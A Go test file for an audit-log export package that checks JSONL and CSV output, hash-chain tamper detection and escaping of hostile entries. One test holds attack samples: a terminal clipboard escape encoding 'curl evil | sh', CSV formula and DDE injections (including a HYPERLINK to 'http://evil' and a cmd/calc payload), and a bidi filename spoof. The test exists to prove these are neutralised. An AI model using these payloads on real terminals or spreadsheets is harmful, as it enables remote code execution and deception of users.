package audit_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/tether-support/tether/internal/audit"
)

func exportString(t *testing.T, f *fixture, format string, since time.Time) string {
	t.Helper()
	var buf bytes.Buffer
	if err := audit.Export(f.db, &buf, format, since); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func TestExportJSONL(t *testing.T) {
	f := newFixture(t)
	f.appendN(t, 5)
	out := exportString(t, f, audit.FormatJSONL, time.Time{})
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 5 {
		t.Fatalf("export: got %d lines, want 5", len(lines))
	}
	for _, field := range []string{`"seq":1`, `"actor_id":"u_admin"`, `"action":"user.create"`, `"details":{`, `"prev":"0000`, `"hash":"`} {
		if !strings.Contains(lines[0], field) {
			t.Errorf("first line %s: missing %s", lines[0], field)
		}
	}
	if strings.Contains(out, `"mac"`) {
		t.Errorf("export contains MACs: %s", lines[0])
	}
	if err := audit.VerifyExport(strings.NewReader(out)); err != nil {
		t.Fatalf("VerifyExport: got %v, want nil", err)
	}

	since := exportString(t, f, audit.FormatJSONL, t0.Add(3*time.Hour))
	if n := strings.Count(since, "\n"); n != 3 {
		t.Errorf("export since 3h: got %d lines, want 3", n)
	}
	if err := audit.VerifyExport(strings.NewReader(since)); err != nil {
		t.Errorf("VerifyExport(partial): got %v, want nil", err)
	}

	join := func(ls ...string) string { return strings.Join(ls, "\n") + "\n" }
	tests := []struct {
		name    string
		in      string
		wantSeq uint64
	}{
		{"edited field", join(lines[0], strings.Replace(lines[1], `"outcome":"ok"`, `"outcome":"no"`, 1), lines[2]), 2},
		{"edited detail", join(lines[0], lines[1], strings.Replace(lines[2], `"role":"tech"`, `"role":"root"`, 1)), 3},
		{"dropped line", join(lines[0], lines[2]), 2},
		{"swapped lines", join(lines[0], lines[2], lines[1]), 2},
		{"garbage line", join(lines[0], "{"), 2},
		{"blank line", join(lines[0], ""), 2},
		{"unknown field", join(strings.Replace(lines[0], `{`, `{"x":1,`, 1)), 1},
	}
	for _, tt := range tests {
		wantVerifyError(t, audit.VerifyExport(strings.NewReader(tt.in)), tt.wantSeq)
	}
}

func TestExportCSV(t *testing.T) {
	f := newFixture(t)
	f.appendN(t, 4)
	if _, err := f.log.Append(audit.Event{Action: "=HYPERLINK(\"x\")", Details: map[string]string{"b": "2", "a": "1"}}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(exportString(t, f, audit.FormatCSV, time.Time{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 {
		t.Fatalf("CSV: got %d rows, want 6 (header + 5)", len(rows))
	}
	wantHeader := "seq,time,actor_id,action,target,outcome,source,details,prev,hash"
	if got := strings.Join(rows[0], ","); got != wantHeader {
		t.Errorf("CSV header: got %q, want %q", got, wantHeader)
	}
	last := rows[5]
	if last[0] != "5" || last[3] != `'=HYPERLINK("x")` || last[7] != `{"a":"1","b":"2"}` {
		t.Errorf("CSV last row: got %q, want seq 5, quoted formula, sorted JSON details", last)
	}
	if err := audit.Export(f.db, &bytes.Buffer{}, "xml", time.Time{}); err == nil {
		t.Errorf("Export(xml): got nil, want error")
	}
}

func FuzzVerifyExport(f *testing.F) {
	f.Add([]byte(`{"seq":1,"time":"2025-03-01T10:00:00Z","actor_id":"","action":"x","target":"","outcome":"","source":"","details":null,"prev":"0000000000000000000000000000000000000000000000000000000000000000","hash":"00"}` + "\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		_ = audit.VerifyExport(bytes.NewReader(data))
	})
}

// TestVerifyExportKnownAnswer pins the canonical encoding: an export made
// by an earlier build must still verify.
func TestVerifyExportKnownAnswer(t *testing.T) {
	data, err := os.ReadFile("testdata/export_v1.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	if err := audit.VerifyExport(bytes.NewReader(data)); err != nil {
		t.Errorf("VerifyExport(testdata/export_v1.jsonl): got %v, want nil", err)
	}
}

// TestExportHostileEntries checks that entries holding escape sequences,
// C1 and bidi characters and formula prefixes reach neither a terminal nor
// a spreadsheet as such, and that the JSONL export still verifies.
func TestExportHostileEntries(t *testing.T) {
	f := newFixture(t)
	hostile := []audit.Event{
		{Action: "device.name", Target: "pc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", Details: map[string]string{"error": "\x1b[1A\x1b[2K\x1b[32mOK\x1b[0m"}},
		{Action: "=HYPERLINK(\"http://evil\",\"x\")", Target: "+cmd|' /C calc'!A0"},
		{Action: "-2+3", Target: "@SUM(A1)", Details: map[string]string{"n": "a\u202Efdp.exe"}},
		{Action: "csi", Target: "x\u009b6ny", Details: map[string]string{"t": "\t=1"}},
	}
	for _, e := range hostile {
		if _, err := f.log.Append(e); err != nil {
			t.Fatal(err)
		}
	}
	jsonl := exportString(t, f, audit.FormatJSONL, time.Time{})
	csvOut := exportString(t, f, audit.FormatCSV, time.Time{})
	for name, out := range map[string]string{"jsonl": jsonl, "csv": csvOut} {
		for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202E"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s export contains %q:\n%s", name, bad, out)
			}
		}
	}
	if err := audit.VerifyExport(strings.NewReader(jsonl)); err != nil {
		t.Errorf("VerifyExport of the escaped export: %v", err)
	}
	rows, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("CSV cell %q starts with a formula character", cell)
			}
		}
	}
	if got, want := rows[1][4], `pc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07`; got != want {
		t.Errorf("CSV target: got %q, want %q", got, want)
	}
}
